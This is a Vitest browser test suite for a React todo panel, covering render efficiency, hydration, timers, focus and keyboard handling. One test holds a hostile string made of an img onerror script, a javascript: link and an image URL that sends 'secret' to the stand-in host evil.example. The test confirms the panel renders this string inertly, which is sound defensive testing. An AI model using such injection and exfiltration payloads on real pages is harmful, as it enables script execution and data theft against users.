import { createRef, Profiler, StrictMode } from 'react'
import { createPortal } from 'react-dom'
import { hydrateRoot } from 'react-dom/client'
import { renderToString } from 'react-dom/server'
import { describe, expect, test, vi } from 'vitest'
import { page, userEvent } from 'vitest/browser'
import { render } from 'vitest-browser-react'
import { createStore, type StoreApi } from 'zustand/vanilla'
import { emptyView, idleRun, type Todo, type TodoView } from '../core/todo.ts'
import { enLabels, type RowState } from './labels.ts'
import type { PanelTodo } from './panelState.ts'
import { TodoPanel } from './TodoPanel.tsx'
import './styles.css'

interface ChatView extends TodoView {
  readonly messages: readonly string[]
}

function newSession(change: Partial<TodoView> = {}): { id: string; store: StoreApi<ChatView> } {
  return {
    id: 's1',
    store: createStore<ChatView>(() => ({ ...emptyView, persistence: 'saved', messages: [], ...change })),
  }
}

function todosOf(...contents: readonly string[]): readonly Todo[] {
  return contents.map((content, index) => ({ id: index + 1, content, status: 'pending', createdAt: 0 }))
}

function withStatus(todos: readonly Todo[], id: number, status: Todo['status']): readonly Todo[] {
  return todos.map((todo) => (todo.id === id ? { ...todo, status } : todo))
}

const running = { ...idleRun, status: 'running' } as const
const rows = () => [...document.querySelectorAll('li')]
const texts = () => rows().map((row) => row.querySelector('.todo-panel-content')?.textContent)
const frame = () => new Promise((resolve) => requestAnimationFrame(resolve))

/** A change of the session, and what the page makes of it. */
async function change(session: ReturnType<typeof newSession>, next: Partial<ChatView>): Promise<void> {
  session.store.setState(next)
  await frame()
  await frame()
}

describe('rendering', () => {
  test('a token of text renders nothing', async () => {
    const session = newSession({ todos: todosOf('Read', 'Write'), run: running })
    const onRender = vi.fn()
    await render(
      <Profiler id="panel" onRender={onRender}>
        <TodoPanel session={session} />
      </Profiler>,
    )
    const before = onRender.mock.calls.length
    for (let index = 0; index < 200; index++) session.store.setState({ messages: [`${index}`] })
    await frame()
    await frame()
    expect(onRender.mock.calls.length).toBe(before)
  })

  test('a host that renders with each token renders no panel', async () => {
    const session = newSession({ todos: todosOf('Read') })
    const root = vi.fn((props: object) => <section {...props} />)
    const chat = (token: string) => (
      <div>
        {token}
        <TodoPanel session={session} render={root} />
      </div>
    )
    const screen = await render(chat('a'))
    const before = root.mock.calls.length
    await screen.rerender(chat('b'))
    expect(root.mock.calls.length).toBe(before)
  })

  test('one of a thousand todos that changes renders one row, and the one that stops being current', async () => {
    const contents = Array.from({ length: 1000 }, (_, index) => `Item ${index + 1}`)
    const todos = withStatus(todosOf(...contents), 1, 'in_progress')
    const session = newSession({ todos, run: running })
    // Each row reads the word for its status once.
    const word = vi.fn((words: typeof enLabels.status, state: RowState) => words[state])
    const labels = { ...enLabels, status: new Proxy(enLabels.status, { get: word as never }) }
    await render(<TodoPanel session={session} labels={labels} />)
    expect(word).toHaveBeenCalledTimes(1000)

    word.mockClear()
    const later = withStatus(todos, 500, 'completed')
    await change(session, { todos: later })
    expect(word.mock.calls.map(([, state]) => state)).toEqual(['completed'])

    word.mockClear()
    await change(session, { todos: withStatus(withStatus(later, 1, 'completed'), 2, 'in_progress') })
    expect(word.mock.calls.map(([, state]) => state)).toEqual(['completed', 'in_progress'])
  })

  test('rows keep their nodes when the whole list is replaced and reordered', async () => {
    const session = newSession({ todos: todosOf('a', 'b', 'c') })
    await render(<TodoPanel session={session} />)
    const [a, b, c] = rows()
    const replaced = [...session.store.getState().todos].reverse().map((todo) => ({ ...todo }))
    await change(session, { todos: replaced })
    expect(rows()).toEqual([c, b, a])
  })

  test('a session without an entry renders in bounds, in strict mode too', async () => {
    const onRender = vi.fn()
    await render(
      <StrictMode>
        <Profiler id="panel" onRender={onRender}>
          <TodoPanel session={newSession({ persistence: 'loading' })} />
        </Profiler>
      </StrictMode>,
    )
    await frame()
    expect(onRender.mock.calls.length).toBeLessThan(4)
  })

  test('thousands of deltas in one task are a few renders and no error (c33)', async () => {
    const todos = todosOf(...Array.from({ length: 100 }, (_, index) => `Item ${index + 1}`))
    const session = newSession({ todos, run: running })
    const onRender = vi.fn()
    await render(
      <Profiler id="panel" onRender={onRender}>
        <TodoPanel session={session} />
      </Profiler>,
    )
    const before = onRender.mock.calls.length
    for (let index = 0; index < 3000; index++) {
      const content = 'x'.repeat(index % 60)
      session.store.setState({ draft: [{ content, status: 'pending', partial: true }] })
      if (index % 3) session.store.setState({ messages: [content] })
      if (index % 100 === 0) await Promise.resolve()
    }
    session.store.setState({ draft: null, todos: withStatus(todos, 1, 'completed') })
    await expect.element(page.getByText('1 of 100')).toBeVisible()
    await frame()
    expect(onRender.mock.calls.length - before).toBeLessThan(10)
    expect(rows()).toHaveLength(100)
  })

  test('idle, nothing ticks; with a current item one clock does while the page is visible', async () => {
    const intervals = new Set<unknown>()
    const set = vi.spyOn(window, 'setInterval').mockImplementation((() => {
      const id = intervals.size + 1
      intervals.add(id)
      return id
    }) as never)
    const clear = vi.spyOn(window, 'clearInterval').mockImplementation((id) => void intervals.delete(id))
    const todos = todosOf('a', 'b').map((todo) => ({ ...todo, startedAt: Date.now() }))
    const session = newSession({ todos, run: idleRun })
    await render(<TodoPanel session={session} />)
    expect(intervals.size).toBe(0)
    await change(session, { todos: withStatus(todos, 1, 'in_progress'), run: running })
    expect(intervals.size).toBe(1)
    const hidden = vi.spyOn(document, 'hidden', 'get').mockReturnValue(true)
    document.dispatchEvent(new Event('visibilitychange'))
    expect(intervals.size).toBe(0)
    hidden.mockRestore()
    document.dispatchEvent(new Event('visibilitychange'))
    expect(intervals.size).toBe(1)
    await change(session, { run: idleRun })
    expect(intervals.size).toBe(0)
    set.mockRestore()
    clear.mockRestore()
  })

  test('the clock of the current item renders no row', async () => {
    const todos: readonly PanelTodo[] = [
      { id: 1, content: 'a', status: 'in_progress', startedAt: Date.now() - 5000 },
    ]
    const word = vi.fn((words: typeof enLabels.status, state: RowState) => words[state])
    const labels = { ...enLabels, status: new Proxy(enLabels.status, { get: word as never }) }
    await render(<TodoPanel todos={todos} labels={labels} />)
    const clock = document.querySelector('.todo-panel-aside')
    const before = clock?.textContent
    expect(before).toMatch(/^\d\s+s$/)
    word.mockClear()
    await expect.poll(() => clock?.textContent, { timeout: 5000 }).not.toBe(before)
    expect(word).not.toHaveBeenCalled()
  })

  test('styles come from the stylesheet alone', async () => {
    const before = document.querySelectorAll('style, link[rel=stylesheet]').length
    await render(<TodoPanel todos={todosOf('a')} />)
    expect(document.querySelectorAll('style, link[rel=stylesheet]').length).toBe(before)
  })
})

describe('on a server and after', () => {
  test('the first client render equals the server and then fills', async () => {
    const session = newSession({ todos: todosOf('Read'), mode: 'plan' })
    const initial: ChatView = { ...emptyView, messages: [] }
    const server = { ...session, store: { ...session.store, getInitialState: () => initial } }
    const element = (
      <StrictMode>
        <TodoPanel session={server} />
      </StrictMode>
    )
    const box = document.createElement('div')
    document.body.append(box)
    box.innerHTML = renderToString(element)
    expect(box.textContent).toContain('Nothing planned yet')
    const problems: unknown[] = []
    const root = hydrateRoot(box, element, { onRecoverableError: (error) => problems.push(error) })
    await expect.poll(texts).toEqual(['Read'])
    expect(problems).toEqual([])
    root.unmount()
    box.remove()
  })
})

describe('text as attack (f46)', () => {
  test('is shown as it is and asks nothing of the network', async () => {
    const content =
      '<img src="/attack.png" onerror="document.title=1"> [click](javascript:alert(1)) ![p](https://evil.example/?q=secret) </todos>'
    const todos = (['pending', 'blocked', 'in_progress'] as const).map((status, id) => ({
      id,
      content,
      status,
      reason: content,
      description: content,
    }))
    const error = { code: 'model_failed', message: content }
    await render(
      <TodoPanel todos={todos} title={content} run={{ outcome: 'failed', error }} mode={content} />,
    )
    expect(texts()).toEqual([content, content, content])
    expect(document.querySelectorAll('.todo-panel :is(img, a, script, iframe)')).toHaveLength(0)
    await frame()
    expect(performance.getEntriesByType('resource').filter(({ name }) => /attack|evil/.test(name))).toEqual(
      [],
    )
  })

  test('one bad row leaves the rest of the page standing', async () => {
    const todos = [null, { id: 1, content: null }, { id: 2, content: 'Good', status: 'odd' }, {}] as never
    await render(<TodoPanel todos={todos} draft={[{}, null] as never} />)
    expect(texts()).toEqual(['Good'])
  })
})

describe('the person', () => {
  test('opens and closes, where the host does not decide', async () => {
    const onOpenChange = vi.fn()
    const screen = await render(<TodoPanel todos={todosOf('a')} onOpenChange={onOpenChange} />)
    const toggle = screen.getByRole('button', { name: 'Todos' })
    await expect.element(toggle).toHaveAttribute('aria-controls', document.querySelector('ol')?.id)
    await toggle.click()
    expect(onOpenChange).toHaveBeenLastCalledWith(false)
    expect(document.querySelector('ol')).toBeNull()
    await expect.element(toggle).not.toHaveAttribute('aria-controls')

    await screen.rerender(<TodoPanel todos={todosOf('a')} open onOpenChange={onOpenChange} />)
    await toggle.click()
    expect(onOpenChange).toHaveBeenLastCalledWith(false)
    expect(document.querySelector('ol')).not.toBeNull()
  })

  test('keeps the focus in the panel when an action disappears under it', async () => {
    const session = newSession({ todos: todosOf('a'), run: { ...idleRun, status: 'interrupted' } })
    session.store.setState({ controls: { resume: () => session.store.setState({ run: running }) } })
    const screen = await render(<TodoPanel session={session} />)
    await screen.getByRole('button', { name: 'Resume' }).click()
    await expect.element(screen.getByRole('region', { name: 'Todos' })).toHaveFocus()
  })

  test('keeps it in a shadow root too', async () => {
    const host = document.createElement('div')
    document.body.append(host)
    const root = host.attachShadow({ mode: 'open' })
    const session = newSession({ todos: todosOf('a'), run: { ...idleRun, status: 'interrupted' } })
    session.store.setState({ controls: { resume: () => session.store.setState({ run: running }) } })
    const { unmount } = await render(
      createPortal(<TodoPanel session={session} />, root as unknown as Element),
    )
    const resume = root.querySelector('.todo-panel-action') as HTMLElement
    resume.focus()
    resume.click()
    await expect.poll(() => root.activeElement?.getAttribute('aria-label')).toBe('Todos')
    await unmount()
    host.remove()
  })

  test('closes the bar with Escape, unless the host took the key', async () => {
    const onKeyDown = vi.fn((event: React.KeyboardEvent) => event.preventDefault())
    const screen = await render(
      <TodoPanel variant="bar" todos={todosOf('a')} defaultOpen onKeyDown={onKeyDown} />,
    )
    screen.getByRole('button').element().focus()
    await userEvent.keyboard('{Escape}')
    expect(document.querySelector('ol')).not.toBeNull()
    await screen.rerender(<TodoPanel variant="bar" todos={todosOf('a')} />)
    await userEvent.keyboard('{Escape}')
    expect(document.querySelector('ol')).toBeNull()
    await expect.element(screen.getByRole('button')).toHaveFocus()
  })
})

test('Escape closes the bar alone, not the dialog around it', async () => {
  await render(
    <dialog aria-label="Chat">
      <TodoPanel variant="bar" todos={todosOf('a')} defaultOpen />
    </dialog>,
  )
  const dialog = document.querySelector('dialog') as HTMLDialogElement
  dialog.showModal()
  document.querySelector<HTMLElement>('.todo-panel-bar')?.focus()
  await userEvent.keyboard('{Escape}')
  expect(document.querySelector('ol')).toBeNull()
  expect(dialog.open).toBe(true)
  await userEvent.keyboard('{Escape}')
  await expect.poll(() => dialog.open).toBe(false)
})

describe('parts', () => {
  test('give their element to a ref, and take attributes and styles', async () => {
    const root = createRef<HTMLElement>()
    const list = createRef<HTMLOListElement>()
    const header = vi.fn()
    await render(
      <TodoPanel.Root
        todos={todosOf('a')}
        ref={root}
        className="mine"
        style={{ inlineSize: 300 }}
        data-testid="panel"
      >
        <TodoPanel.Header ref={header} collapsible={false} />
        <TodoPanel.List ref={list} aria-label="My list" />
      </TodoPanel.Root>,
    )
    expect(root.current?.className).toBe('todo-panel mine')
    expect(root.current?.dataset.testid).toBe('panel')
    expect(root.current?.style.inlineSize).toBe('300px')
    expect(list.current?.tagName).toBe('OL')
    expect(header).toHaveBeenCalledWith(document.querySelector('header'))
    await expect.element(page.getByRole('list', { name: 'My list' })).toBeVisible()
  })
})
